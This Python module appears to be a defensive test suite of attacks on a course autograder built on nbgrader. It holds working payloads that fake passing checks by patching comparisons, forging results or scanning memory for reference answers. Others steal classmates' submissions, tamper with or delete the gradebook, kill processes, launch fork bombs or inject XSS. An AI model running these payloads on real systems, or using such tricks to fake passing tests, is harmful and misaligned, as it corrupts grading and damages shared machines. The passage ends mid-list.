"""Attacks on the grader: each is a submission whose answer is wrong (or not its author's), and which tries to get its points or to do harm.

`attacked.py` grades all of them as one class, `weakened.py` has the builds on which they succeed, `tools/attacks_in_stock.py` tries nbgrader's own autograder.
"""
from collections.abc import Callable
from dataclasses import dataclass

WRONG = "import torch\ndef mnist_loss(predictions, targets): return (predictions * 0.0).sum()\n"
SIGMOID = "import torch\ndef sigmoid(x): return 1 / (1 + torch.exp(-x))\n"


def _same(nb): return nb


@dataclass(frozen=True)
class Attack:
    "One attack: what stands in the solution cell, what is done to the notebook, and which files lie beside it."
    family: str
    name: str
    code: str
    edit: Callable = _same
    files: tuple[tuple[str, str], ...] = ()
    safe_in_stock: bool = True  # whether it may be run with the stock autograder on this machine, to see what happens
    target: str = "mnist_loss"  # one of TARGETS
    without: str = WRONG        # the same answer without the trick
    doubted: bool = False       # whether the answer's numbers are right: then no points and a person is what must come out


# For each target: its assignment, its solution cell, its graded cells, and an honest answer.
LOSS, JUDGED, OWN, QUESTIONS = "loss_functions", "judged", "own", "questionnaire_mnist_basics"
HONEST = {
    "mnist_loss": "def mnist_loss(predictions, targets):\n    p = sigmoid(predictions)\n    return torch.where(targets == 1, 1 - p, p).mean()",
    "sigmoid": SIGMOID,
    "DataLoader": """import torch
class DataLoader:
    def __init__(self, dataset, batch_size=64, shuffle=False, drop_last=False): self.dataset, self.size, self.shuffle, self.drop_last = dataset, batch_size, shuffle, drop_last
    def __len__(self): return len(self.dataset) // self.size if self.drop_last else -(-len(self.dataset) // self.size)
    def order(self): return torch.randperm(len(self.dataset)).tolist() if self.shuffle else list(range(len(self.dataset)))
    def __iter__(self):
        order = self.order()
        for i in range(len(self)):
            items = [self.dataset[k] for k in order[i * self.size:(i + 1) * self.size]]
            stack = lambda column: torch.stack(list(column)) if isinstance(column[0], torch.Tensor) else torch.tensor(column) if not isinstance(column[0], str) else tuple(column)
            yield tuple(stack(c) for c in zip(*items)) if isinstance(items[0], tuple) else stack(items)
""",
    "Linear": """import torch
class Linear:
    def __init__(self, n_in, n_out):
        self.weight = (torch.randn(n_out, n_in) / n_in ** 0.5).requires_grad_()
        self.bias = torch.zeros(n_out, requires_grad=True)
    def __call__(self, x): return x @ self.weight.T + self.bias
    def parameters(self): return [self.weight, self.bias]
""",
    "ReLU": "import torch\nclass ReLU:\n    def __call__(self, x): return torch.where(x > 0, x, 0 * x)\n    def parameters(self): return []\n",
    "double": "def double(x): return 2 * x\n"}
TARGETS = {"mnist_loss": (LOSS, "mnist_loss", ("check-mnist_loss",)), "double": (OWN, "double", ("test-double", "test-hidden")), "question": (QUESTIONS, "", ("question-mb-10",)),
           **{name: (JUDGED, name, (f"check-{name}",)) for name in ("sigmoid", "DataLoader", "Linear", "ReLU")}}


FAKE = "def fake(*args, **kwargs): return None\n"
EVERYWHERE = "import sys, gc, os, builtins, glob\n"
RIGHT_FROM = "def mnist_loss(predictions, targets):\n    p = {sigmoid}\n    return torch.where(targets == 1, 1 - p, p).mean()\n"
FORGED_FRAMES = """
import json, struct
def frame(value):
    header = json.dumps(value).encode()
    body = b"CLW1" + struct.pack("<I", len(header)) + header
    return struct.pack("<I", len(body)) + body
forged = b"".join(frame({"d": [["job", j], ["case", c], ["seen", {"f": "0.4460"}], ["used", {"l": []}]]}) for j in range(3) for c in range(8))
forged += frame({"d": [["end", True]]}) + b'{"status": "right", "score": 1.0}\\n'
"""
COMPARING, HOOKS, OBJECTS, LOOKING = "changing what is compared or called", "hooks and patched modules", "objects that claim to be equal", "looking for expected values"
FORGING, ENDING, EATING = "forging results", "exiting and killing", "time, memory, processes, output, disk"
READING, WRITING, NETWORK = "reading what is not theirs", "writing to the gradebook and the course", "network"
METADATA, FILES, BROWSER, READY_MADE = "points, ids, metadata, tags", "files beside the notebook", "the instructor's browser", "ready-made functions in disguise"
MEMORY, EXCHANGE, KEYRING, CHANNELS = "the memory of the process it is forked from", "the exchange and other hand-ins", "keyrings", "channels between submissions"
JUDGES, FORBIDDEN, BUDGET, FRAMES, PLAIN = "talking the judges round", "ways round the record", "time and memory of the trusted side", "frames of one's own", "cells that are marked by running them"


def _metadata(of, **changes):
    def edit(nb):
        for cell in nb["cells"]:
            mark = cell["metadata"].get("nbgrader", {})
            if mark.get("grade_id") == of: mark.update(changes)
        return nb
    return edit


def _source(grade_id, source):
    def edit(nb):
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id: cell["source"] = source
        return nb
    return edit


def _without(grade_id):
    def edit(nb):
        nb["cells"] = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") != grade_id]
        return nb
    return edit


def _skipped(nb):
    for cell in nb["cells"]: cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "bash", "language": "bash"}
    return nb


def _scripts(nb):
    script = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"><a href=\"javascript:alert(1)\">x</a>"
    schemes = "javascript:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "javascript\\:", "JavaScript :", "java&Tab;script:", "java\tscript:", "&#106;avascript:", \
        "vbscript:", "data:text/html,"
    links = [f"[link {i}]({s}alert(1)) [named {i}][n{i}] <{s}alert(1)> ![picture](<{s}alert(1)>)\n\n[n{i}]: {s}alert(1)" for i, s in enumerate(schemes)]
    formulas = [f"$\\href{{{s}alert(1)}}{{x}}$" for s in schemes] + [r"$\style{position:fixed;inset:0;background:url(https://example.org)}{x}$", r"$\class{btn}{x}$",
                r"$\text{<img src=x onerror=alert(1)>}$", r"$\text{&lt;img src=x onerror=alert(1)&gt;}$"]
    nb["cells"].insert(0, {"cell_type": "markdown", "id": "s1", "metadata": {}, "source": "\n\n".join([script, *links, *formulas])})
    nb["cells"].insert(0, {"cell_type": "code", "id": "s2", "metadata": {}, "execution_count": 1, "source": f"# {script}",
                           "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": script, "application/javascript": "alert(1)"}}]})
    return nb


ATTACKS = [
    Attack(COMPARING, "assert_close does nothing", WRONG + FAKE + "import torch.testing\ntorch.testing.assert_close = fake\ntorch.testing._comparison.assert_close = fake\n"),
    Attack(COMPARING, "everything is close", WRONG + "torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
           "torch.Tensor.__eq__ = lambda a, b: True\n"),
    Attack(COMPARING, "the probes are replaced", WRONG + EVERYWHERE + "for m in list(sys.modules.values()):\n    for n in ('PROBES', 'observe', 'judge', 'difference'):\n"
           "        if n in getattr(m, '__dict__', {}):\n            if n == 'PROBES': [getattr(m, n).update({k: (lambda *a, **k: 0.446)}) for k in list(getattr(m, n))]\n"
           "            else: setattr(m, n, lambda *a, **k: None)\n"),
    Attack(COMPARING, "builtins are replaced", WRONG + "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a, **k: True\n"),
    Attack(HOOKS, "asserts are taken out of the code", WRONG + "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
           "    def visit_Expr(self, node): return node if 'assert' not in ast.dump(node) else ast.Pass()\nget_ipython().ast_transformers.append(T())\n"),
    Attack(HOOKS, "run_code is patched", WRONG + "async def run_code(*a, **k): return False\nip = get_ipython()\ntype(ip).run_code = run_code\n"),
    Attack(HOOKS, "cells are rewritten before they run", WRONG + "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)\n"),
    Attack(HOOKS, "imports are intercepted", WRONG + "import builtins, types\nreal = builtins.__import__\ndef fake(name, *a, **k):\n    m = real(name, *a, **k)\n"
           "    if 'testing' in name: m.assert_close = lambda *a, **k: None\n    return m\nbuiltins.__import__ = fake\nreal('torch.testing').testing.assert_close = lambda *a, **k: None\n"),
    Attack(OBJECTS, "an object equal to everything", "class Any(float):\n    def __getattr__(self, n): return Any()\n    def __call__(self, *a, **k): return Any()\n"
           "    __eq__ = __le__ = __lt__ = __ge__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __sub__ = __rsub__ = __abs__ = __mul__ = lambda *a: Any()\n    __hash__ = lambda a: 0\n"
           "def mnist_loss(predictions, targets): return Any()\n"),
    Attack(OBJECTS, "a tensor subclass that is always close", "import torch\nclass Liar(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
           "        if func.__name__ in ('isclose', 'eq', 'le', 'allclose', 'equal', 'all'): return torch.tensor(True)\n"
           "        if func.__name__ == 'sub': return torch.tensor(0.)\n        return super().__torch_function__(func, types, args, kwargs or {})\n"
           "def mnist_loss(predictions, targets): return (predictions * 0.).sum().as_subclass(Liar)\n"),
    Attack(OBJECTS, "a result that changes when it is looked at", "import torch\nclass Late:\n    shape = torch.Size([])\n    def __iter__(self): return iter(())\n    def __reduce__(self): return (eval, ('1',))\n"
           "    def __float__(self): return 0.446\n    def __torch_function__(self, *a, **k): return True\ndef mnist_loss(predictions, targets): return Late()\n"),
    Attack(LOOKING, "the caller's frames", "import sys, torch\ndef mnist_loss(predictions, targets):\n    f = sys._getframe(1)\n    while f:\n        for n, v in {**f.f_globals, **f.f_locals}.items():\n"
           "            if n in ('expected', 'answer', 'reference', 'wanted') and isinstance(v, torch.Tensor): return v\n        f = f.f_back\n    return (predictions * 0.).sum()\n"),
    Attack(LOOKING, "the heap", "import gc, types, torch\ndef mnist_loss(predictions, targets):\n    for o in gc.get_objects():\n"
           "        if isinstance(o, types.FunctionType) and o.__name__ == 'mnist_loss' and o is not mnist_loss: return o(predictions, targets)\n"
           "        if type(o).__name__ == 'Trial' and o.check.name == 'mnist_loss': return o.check.reference(predictions, targets)\n    return (predictions * 0.).sum()\n"),
    Attack(LOOKING, "the course's files", "import os, torch\ndef mnist_loss(predictions, targets):\n    import course_lib\n    for root, _, names in (w for top in (os.path.dirname(course_lib.__file__), '/') for w in os.walk(top)):\n        if root.startswith(('/proc', '/sys', '/usr')): continue\n"
           "        for n in names:\n            if n == 'binary_loss.py':\n                space = {'check_comparable': lambda *a: None}\n                exec(''.join(l for l in open(os.path.join(root, n)) if not l.startswith('from .')), space)\n"
           "                if 'mnist_loss' in space: return space['mnist_loss'](predictions, targets)\n        if root.count('/') > 6: _[:] = []\n    return (predictions * 0.).sum()\n", safe_in_stock=False),
    Attack(LOOKING, "the reference itself", "import importlib, torch\ndef mnist_loss(predictions, targets):\n    name = '.'.join(['course' + '_lib', 'scratch', 'binary' + '_loss'])\n"
           "    return getattr(importlib.import_module(name), 'mnist' + '_loss')(predictions, targets)\n"),
    Attack(LOOKING, "an answer table", "import torch\ntable = {3: 0.4460}\ndef mnist_loss(predictions, targets): return torch.tensor(table.get(predictions.numel(), 0.5)) + 0 * predictions.sum()\n"),
    Attack(FORGING, "a mark on standard output", WRONG + "import sys\nprint(4.0)\nprint('{\"status\": \"right\", \"score\": 1.0}')\nsys.__stdout__.write('4.0\\n')\n"),
    Attack(FORGING, "a mark as the cell's value", WRONG + "import sys\nclass N(float):\n    def __repr__(self): return 'nan'\n"
           "def mnist_loss(predictions, targets):\n    from IPython.display import publish_display_data\n    publish_display_data({'text/plain': 'nan'})\n    return N()\nfloat('nan')\n"),
    Attack(FORGING, "frames into every file descriptor", WRONG + FORGED_FRAMES + "import os\nfor fd in range(3, 128):\n    try: os.write(fd, forged)\n    except OSError: pass\nos._exit(0)\n"),
    Attack(FORGING, "frames when the function is called", WRONG + FORGED_FRAMES + "import os\ndef mnist_loss(predictions, targets):\n    for fd in range(3, 128):\n        try: os.write(fd, forged)\n        except OSError: pass\n"
           "    os._exit(0)\n"),
    Attack(FORGING, "files rewritten at exit", WRONG + "import atexit, glob, os\ndef rewrite():\n    for f in glob.glob('/**/autograded/**/*.ipynb', recursive=True) + glob.glob('**/*.ipynb', recursive=True) + glob.glob('/**/verdicts/**/*.json', recursive=True):\n"
           "        try: open(f, 'w').write('{}')\n        except OSError: pass\natexit.register(rewrite)\n", safe_in_stock=False),
    Attack(ENDING, "exit when called", "import os\ndef mnist_loss(predictions, targets): os._exit(0)\n"),
    Attack(ENDING, "SystemExit", "import sys\ndef mnist_loss(predictions, targets): sys.exit(0)\nsys.exit(0)\n"),
    Attack(ENDING, "kill the parents and everybody", WRONG + "import os, signal\nfor pid in [os.getppid(), 1, 2, 3, 4, 5, -1]:\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass\n", safe_in_stock=False),
    Attack(ENDING, "a process that stays behind", WRONG + "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n            for fd in range(3, 64):\n"
           "                try: os.write(fd, b'x' * 100)\n                except OSError: pass\n            time.sleep(0.01)\n    os._exit(0)\n", safe_in_stock=False),
    Attack(EATING, "an endless loop that catches everything", "def mnist_loss(predictions, targets):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n"),
    Attack(EATING, "a long sleep in a cell", WRONG + "import time\ntime.sleep(10 ** 6)\n"),
    Attack(EATING, "all memory", WRONG + "chunks = []\nwhile True: chunks.append(bytearray(2 ** 26))\n", safe_in_stock=False),
    Attack(EATING, "memory in many processes", WRONG + "import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n        b = bytearray(2 ** 29)\n        time.sleep(60)\n        os._exit(0)\ntime.sleep(5)\n", safe_in_stock=False),
    Attack(EATING, "a fork bomb", WRONG + "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n", safe_in_stock=False),
    Attack(EATING, "200 MB of output", WRONG + "import sys\nfor _ in range(200): sys.stdout.write('x' * 2 ** 20)\n", safe_in_stock=False),
    Attack(EATING, "a full disk", WRONG + "import itertools\nfor i in itertools.count():\n    try: open(f'/tmp/fill{i}', 'wb').write(b'x' * 2 ** 23)\n    except OSError: break\n", safe_in_stock=False),
    Attack(EATING, "an answer of 4 GB", "import torch\ndef mnist_loss(predictions, targets): return torch.zeros(1).expand(2 ** 30)\n"),
    Attack(READING, "other submissions and the solution", EVERYWHERE + "import json, torch\ndef mnist_loss(predictions, targets):\n"
           "    for f in (f for pattern in ('../../../source/*/*.ipynb', '../../*/*/*.ipynb', '/**/submitted/*/*/*.ipynb', '/**/source/*/*.ipynb') for f in glob.iglob(pattern, recursive=True)):\n"
           "        for c in json.load(open(f))['cells']:\n            if 'def mnist_loss' in ''.join(c['source']) and 'glob' not in ''.join(c['source']):\n"
           "                space = {'torch': torch, 'sigmoid': lambda x: 1 / (1 + (-x).exp())}\n                exec(''.join(c['source']), space)\n                return space['mnist_loss'](predictions, targets)\n"
           "    return (predictions * 0.).sum()\n", safe_in_stock=False),
    Attack(READING, "the home and the environment", WRONG + "import os, pathlib, sys\nhome = [str(p) for d in ('/root', '/home', os.path.expanduser('~')) for p in pathlib.Path(d).glob('**/*')]\n"
           "home = [p for p in home if not p.startswith((sys.prefix, sys.base_prefix))]  # an environment may lie there, and it is needed\n"
           "leaked = [n for n in os.environ if 'KEY' in n or 'TOKEN' in n or 'SECRET' in n]\nassert not [h for h in home if 'ssh' in h or 'course' in h] and not leaked, 'LEAKED'\n"),
    Attack(WRITING, "marks in the gradebook", WRONG + "import glob, itertools, sqlite3\nfor f in itertools.chain(['../../../gradebook.db'], glob.iglob('/**/gradebook.db', recursive=True)):\n    try:\n        db = sqlite3.connect(f)\n"
           "        db.execute('update grade set manual_score = 4, auto_score = 4')\n        db.commit()\n    except Exception: pass\n"),
    Attack(WRITING, "the gradebook deleted", WRONG + "import glob, itertools, os\nfor f in itertools.chain(['../../../gradebook.db'], glob.iglob('/**/gradebook.db', recursive=True)):\n    try: os.remove(f)\n    except OSError: pass\n"),
    Attack(WRITING, "a line in nbgrader_config.py", WRONG + "import glob, itertools\nfor f in itertools.chain(['../../../nbgrader_config.py'], glob.iglob('/**/nbgrader_config.py', recursive=True)):\n    try: open(f, 'a').write('\\nowned = 1\\n')\n    except OSError: pass\n"),
    Attack(NETWORK, "a call home", "import socket, torch\ndef mnist_loss(predictions, targets):\n    for where in (('127.0.0.1', 8888), ('1.1.1.1', 53)):\n        try: socket.create_connection(where, timeout=0.5).close()\n"
           "        except OSError: continue\n        raise RuntimeError('NETWORK')\n    return (predictions * 0.).sum()\n"),
    Attack(METADATA, "a hundred points", WRONG, _metadata("check-mnist_loss", points=100)),
    Attack(METADATA, "the test cell deleted", WRONG, _without("check-mnist_loss")),
    Attack(METADATA, "the test cell edited", WRONG, _source("check-mnist_loss", "pass")),
    Attack(METADATA, "the test cell no longer graded", WRONG, _metadata("check-mnist_loss", grade=False, solution=True, locked=False)),
    Attack(METADATA, "the test's id on another cell", WRONG, lambda nb: _metadata("check-sigmoid", grade_id="check-mnist_loss")(_without("check-mnist_loss")(nb))),
    Attack(METADATA, "an unknown metadata version", WRONG, _metadata("mnist_loss", schema_version=99)),
    Attack(METADATA, "execution switched off by tags, another kernel", WRONG, _skipped),
    Attack(FILES, "a file called like a library", WRONG, files=(("torch.py", "class testing: assert_close = lambda *a, **k: None\n"), ("random.py", "raise SystemExit\n"),
                                                              ("course_lib.py", "def check(*a): return 1\n"))),
    Attack(FILES, "files that are read at start-up", WRONG, files=(("sitecustomize.py", "import os; os._exit(0)\n"), ("usercustomize.py", "raise SystemExit\n"),
                                                                  (".ipython/profile_default/startup/00.py", "raise SystemExit\n"), ("ipython_config.py", "raise SystemExit\n"))),
    Attack(BROWSER, "scripts in markdown and outputs", WRONG, _scripts),
    Attack(BROWSER, "scripts in an error's text", "def mnist_loss(predictions, targets): raise ValueError('<script>document.title=1</script><img src=x onerror=alert(1)>')\n"),
    Attack(READY_MADE, "getattr", "import torch\n" + RIGHT_FROM.format(sigmoid="getattr(torch, 'sig' + 'moid')(predictions)")),
    Attack(READY_MADE, "vars", "import torch\n" + RIGHT_FROM.format(sigmoid="vars(torch)['sigmoid'](predictions)")),
    Attack(READY_MADE, "importlib", "import importlib, torch\n" + RIGHT_FROM.format(sigmoid="importlib.import_module('torch.special').expit(predictions)")),
    Attack(READY_MADE, "an alias", "import torch\nfrom torch.nn.functional import sigmoid as squash\nmine = squash\n" + RIGHT_FROM.format(sigmoid="mine(predictions)")),
    Attack(READY_MADE, "the operator itself", "import torch\n" + RIGHT_FROM.format(sigmoid="torch.ops.aten.sigmoid.default(predictions)")),
    Attack(READY_MADE, "a compiled function", "import torch\nsquash = torch.jit.CompilationUnit('def f(x):\\n    return torch.sigmoid(x)').f\n" + RIGHT_FROM.format(sigmoid="squash(predictions)")),
    Attack(READY_MADE, "the record switched off", "import torch, torch.utils._python_dispatch as d\ndef squash(x):\n    with d._disable_current_modes(): return torch.sigmoid(x)\n" + RIGHT_FROM.format(sigmoid="squash(predictions)")),
]

# ---- the process that is forked from, and what is left behind: `LEAVES` is what an accomplice's notebook does before one of these looks for it

SOLVED = "lambda p,t:(1/(1+(p*(2*t-1)).exp())).mean() "  # all of mnist_loss in 44 characters
FRAMES_ABOVE = """
import os, struct, sys, torch
_f = sys._getframe()
while "send" not in _f.f_locals or "request" not in _f.f_locals: _f = _f.f_back
request, send = _f.f_locals["request"], _f.f_locals["send"]
_done = _f.f_locals.get("i", 1)
def finish(frames=()):
    for i in range(_done, len(request["cells"]) + 1): send({"cell": i, "seen": None})
    for frame in frames: os.write(3, frame)
    send({"end": True})
    os._exit(0)
"""
SCAN = """
def scan(word, most=2 ** 28):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            area, rights = line.split()[:2]
            low, high = (int(n, 16) for n in area.split("-"))
            if not rights.startswith("rw") or "[v" in line or high - low > most: continue
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except (OSError, ValueError, OverflowError): continue
            at = data.find(word)
            while at >= 0:
                yield data, at
                at = data.find(word, at + 1)
"""
REPLAY = WRONG + FRAMES_ABOVE + SCAN + """
import json
found = {}
for data, at in scan(b"CLW" + b"1"):
    size, = struct.unpack_from("<I", data, at - 4) if at >= 4 else (0,)
    header = data[at + 8:at + 8 + struct.unpack_from("<I", data, at + 4)[0]] if at + 8 < len(data) else b""
    if b'"token"' in header and b'"seen"' in header and b"probe" not in header and 8 < size < 10 ** 6:
        if not any(data[at + size - 4:at + size]): continue  # a 0, which is no right answer: from somebody who only leaves things behind
        for job in request["jobs"]:
            for case in job["cases"]:
                if case["token"].encode() in header: found.setdefault(case["token"], data[at - 4:at + size])
if found: finish([found[c["token"]] for job in request["jobs"] for c in job["cases"] if c["token"] in found])
"""
SOURCES = WRONG + SCAN + """
import json
for data, at in scan(b'"def mnist_' + b"loss(predictions"):
    text = data[at:at + 2000]
    try: source = json.JSONDecoder().raw_decode(text.decode("latin-1"))[0]
    except ValueError: continue
    if "sigmoid(" in source: exec(source, globals())
"""
MINE = "exec('mnist_loss = ' + found, globals()) if found else None\n"
LEAVES = "import torch\nSOLVED = " + repr(SOLVED) + r"""
import ctypes, os, socket, time
kept = [SOLVED + " #left" for _ in range(5000)]
def tried(action):
    try: return action()
    except (OSError, ImportError): return None
def files():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd()):
        def write(): open(os.path.join(folder, "left"), "w").write(SOLVED)
        tried(write)
def ports():
    for place, char in enumerate(SOLVED.encode()):
        server = socket.create_server(("127.0.0.1", 20000 + 128 * place + char))
        client = socket.create_connection(server.getsockname())
        other = server.accept()[0]
        other.close(); client.close(); server.close()
def stays():
    if os.fork(): return
    for fd in range(3, 64): tried(lambda: os.close(fd))
    os.setsid()
    server = socket.socket(socket.AF_UNIX)
    server.bind("\0left")
    server.listen()
    server.settimeout(60)
    while True: server.accept()[0].sendall(SOLVED.encode())
def keys():
    libc = ctypes.CDLL(None)
    for ring in (-3, -4, -5): libc.syscall(248, b"user", b"left", SOLVED.encode(), len(SOLVED), ring)
def times():
    for name in ("null", "zero", "full", "random", "urandom"): tried(lambda: os.utime("/dev/" + name))
def shared():
    from multiprocessing.shared_memory import SharedMemory
    kept.append(SharedMemory("left", create=True, size=64))
    kept[-1].buf[:len(SOLVED)] = SOLVED.encode()
def name(): socket.sethostname(SOLVED[:60])
for leave in (files, ports, keys, times, shared, name, stays): tried(leave)
raise ValueError(SOLVED + " #left")
"""
LOOKS = {
    "files in every folder": "import os\nfound = ''\nfor d in ('/tmp', '/dev/shm', '/var/tmp', '/run', os.path.expanduser('~'), os.getcwd()):\n    try: found = open(os.path.join(d, 'left')).read()\n    except OSError: pass\n",
    "ports that were used": "import re\nports = sorted({int(p, 16) for line in open('/proc/net/tcp') for p in re.findall(r':([0-9A-F]{4}) ', line)})\n"
                            "found = ''.join(chr((p - 20000) % 128) for p in ports if 20000 <= p < 20000 + 128 * 64)\n",
    "a socket of a process that stays": "import socket\nfound = ''\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.settimeout(2)\n    s.connect('\\0left')\n    found = s.recv(100).decode()\nexcept OSError: pass\n",
    "shared memory": "found = ''\ntry:\n    from multiprocessing.shared_memory import SharedMemory\n    found = bytes(SharedMemory('left').buf[:44]).decode()\nexcept Exception: pass\n",
    "the name of the machine": "import socket\nfound = socket.gethostname() if 'lambda' in socket.gethostname() else ''\n"}
KEYS = """
import ctypes
found, libc = "", ctypes.CDLL(None)
for ring in (-3, -4, -5):
    key = libc.syscall(250, 10, ring, b"user", b"left", 0)
    if key > 0:
        text = ctypes.create_string_buffer(100)
        length = libc.syscall(250, 11, key, text, 100)
        found = text.raw[:max(0, length)].decode() or found
"""
CLASSMATES = """
import glob, json, os
def take(patterns):
    for pattern in patterns:
        for path in glob.iglob(pattern):
            try: cells = json.load(open(path))["cells"]
            except (OSError, ValueError): continue
            for cell in cells:
                source = "".join(cell["source"])
                if "def mnist_loss" in source and "glob" not in source and "NotImpl" not in source and "* 0.0" not in source: exec(source, globals())
"""
INBOUND = "('/usr/local/share/nbgrader/exchange/*/inbound/*/*.ipynb', '/srv/nbgrader/exchange/*/inbound/*/*.ipynb', '/usr/local/share/nbgrader/exchange/*/feedback/*/*')"
ATTACKS += [
    Attack(MEMORY, "frames of classmates, found and sent again", REPLAY, safe_in_stock=False),
    Attack(MEMORY, "the text of classmates' solutions", SOURCES, safe_in_stock=False),
    Attack(MEMORY, "what an accomplice left in a thousand copies", WRONG + SCAN + "found = next((d[a - 44:a].decode('latin-1') for d, a in scan(b' #le' + b'ft') if d[a - 44:a].startswith(b'lambda')), '')\n" + MINE, safe_in_stock=False),
    Attack(EXCHANGE, "the exchange in its usual place", WRONG + CLASSMATES + f"take({INBOUND})\n", safe_in_stock=False),
    Attack(EXCHANGE, "through the folders of processes", WRONG + CLASSMATES + "take(p + q for p in glob.glob('/proc/*/root') + glob.glob('/proc/*/cwd') + glob.glob('/proc/*/fd/*') for q in ('/usr/local/share/nbgrader/exchange/*/inbound/*/*.ipynb',"
           " '/submitted/*/*/*.ipynb', '/../../submitted/*/*/*.ipynb'))\n", safe_in_stock=False),
    Attack(EXCHANGE, "submitted work anywhere", WRONG + CLASSMATES + "take('/*' * n + f'/{d}/*/*/*.ipynb' for n in range(5) for d in ('submitted', 'inbound', 'autograded'))\ntake([os.path.expanduser('~/**/*.ipynb')])\n", safe_in_stock=False),
    Attack(KEYRING, "a key of the session's keyring", WRONG + KEYS + MINE, safe_in_stock=False),
    *(Attack(CHANNELS, name, WRONG + look + MINE, safe_in_stock=False) for name, look in LOOKS.items())]


# ---- the judges

_ONCE = HONEST["DataLoader"].replace("def order(self): return ", "def order(self):\n        self.drawn = getattr(self, 'drawn', None) or (").replace("list(range(len(self.dataset)))", "list(range(len(self.dataset))))\n        return self.drawn")
FEWER = """
import builtins, sys
_range = builtins.range
def fewer(*a):
    caller = sys._getframe(1).f_code
    return {} if caller.co_filename.endswith("probes.py") else _range(*a)
builtins.range = fewer
"""
_ROUGH = "import torch\ndef sigmoid(x): return {}\n"


def _answer_table() -> str:
    "A sigmoid that knows the answers to the inputs of one drawing, and nothing else."
    import torch

    from course_lib.exercises.checking import find_check
    from course_lib.checks.trials import Trial
    trial, rows = Trial(find_check("sigmoid"), 7), []
    for case in trial.cases:
        x = next(iter(case.inputs["args"]))
        if isinstance(x, torch.Tensor) and x.numel(): rows.append((x.tolist(), torch.sigmoid(x).tolist(), str(x.dtype)))
    return (f"import torch\ninf, nan = float('inf'), float('nan')\nTABLE = {rows!r}\ndef sigmoid(x):\n    for given, value, kind in TABLE:\n        if torch.equal(torch.tensor(given, dtype=x.dtype), x): \n"
            "            p = torch.tensor(value, dtype=x.dtype)\n            return p + (x - x.detach()) * p * (1 - p)\n    return 0 * x\n")


ATTACKS += [
    Attack(JUDGES, "one pass instead of three", FEWER.format("_range(1)") + _ONCE, target="DataLoader", without=_ONCE, doubted=True),
    Attack(JUDGES, "no pass at all", FEWER.format("()") + _ONCE, target="DataLoader", without=_ONCE, doubted=True),
    Attack(JUDGES, "biases that are no numbers", HONEST["Linear"].replace("torch.zeros(n_out, requires_grad=True)", "torch.full((n_out,), float('nan')).requires_grad_()"), target="Linear",
           without=HONEST["Linear"].replace("torch.zeros(n_out, requires_grad=True)", "torch.full((n_out,), 5.0).requires_grad_()")),
    Attack(JUDGES, "a coarser kind of number", _ROUGH.format("(1.0015 / (1 + torch.exp(-x))).bfloat16()"), target="sigmoid", without=_ROUGH.format("1.0015 / (1 + torch.exp(-x))")),
    Attack(JUDGES, "numbers that are close to all", _ROUGH.format("1 / (1 + torch.exp(-x)) * float('nan')"), target="sigmoid", without=_ROUGH.format("x * 0.0")),
    Attack(JUDGES, "the answers of another drawing", _answer_table(), target="sigmoid", without=_ROUGH.format("0 * x")),
    Attack(JUDGES, "a whole number of 4000 digits", "def sigmoid(x): return 10 ** 4000\n", target="sigmoid", without=_ROUGH.format("x * 0.0")),
]

# ---- ready-made functions, by ways on which nothing is read and nothing recorded

FORBIDDEN_ONE = "import torch\n" + RIGHT_FROM.format(sigmoid="torch.sigmoid(predictions)")


def _evades(name: str, before: str, sigmoid: str, **more) -> Attack:
    return Attack(FORBIDDEN, name, "import torch\n" + before + RIGHT_FROM.format(sigmoid=sigmoid), without=FORBIDDEN_ONE, doubted=True, **more)


SQUASHED = """class S(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        y = torch.as_tensor(squash(x.detach())).to(x.dtype)
        ctx.save_for_backward(y)
        return y
    @staticmethod
    def backward(ctx, g):
        y, = ctx.saved_tensors
        return g * y * (1 - y)
"""


ATTACKS += [
    _evades("matplotlib's logistic scale", "import math\nimport matplotlib.scale as ms\nt = ms.LogisticTransform('mask')\ndef squash(x): return t.transform_non_affine(x.double().numpy() / math.log(10))\n" + SQUASHED, "S.apply(predictions)"),
    _evades("the record put out of order beforehand", "import sys, logging\nbox = [None]\nput = type(sys).__setattr__\nput(sys, 'set' + 'profile', lambda f: box.__setitem__(0, f))\nput(sys, 'get' + 'profile', lambda: box[0])\n"
            "def squash(x):\n    out = []\n    t = logging.threading.Thread(target=lambda: out.append(x.detach().sigmoid()))\n    t.start()\n    t.join()\n    return out[0]\n" + SQUASHED, "S.apply(predictions)"),
    _evades("a thread", "from concurrent.futures import ThreadPoolExecutor\n", "ThreadPoolExecutor(1).submit(torch.sigmoid, predictions).result()"),
    _evades("another way to a thread", "import _thread, queue\nq = queue.SimpleQueue()\nname = ''.join(['sig', 'moid'])\n",
            "(_thread.start_new_thread(lambda: q.put(getattr(predictions, name)()), ()), q.get())[1]"),
    _evades("sorted is replaced", "import builtins\nbuiltins.sorted = lambda *a, **k: []\n", "getattr(torch, 'sig' + 'moid')(predictions)"),
    _evades("scipy's, imported by name", "import importlib\nexpit = importlib.import_module('scipy.' + 'special').expit\n"
